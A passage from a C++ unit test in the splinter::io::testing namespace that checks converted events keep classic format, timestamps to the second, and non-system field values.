  for (size_t i = 0; i < xs.events.size(); ++i) {
    const StoredEvent& x = xs.events[i];
    const StoredEvent& c = cs.events[i];
    EXPECT_EQ(c.format, EventFormat::Classic);
    EXPECT_EQ(c.time_us / 1000000, x.time_us / 1000000);
    for (const StoredField& f : x.fields) {
      if (std::find(system.begin(), system.end(), f.name) != system.end()) continue;
      EXPECT_EQ(c.at(f.name), f.value) << "event " << i << " field " << f.name;
    }
  }
}

}  // namespace
}  // namespace splinter::io::testing
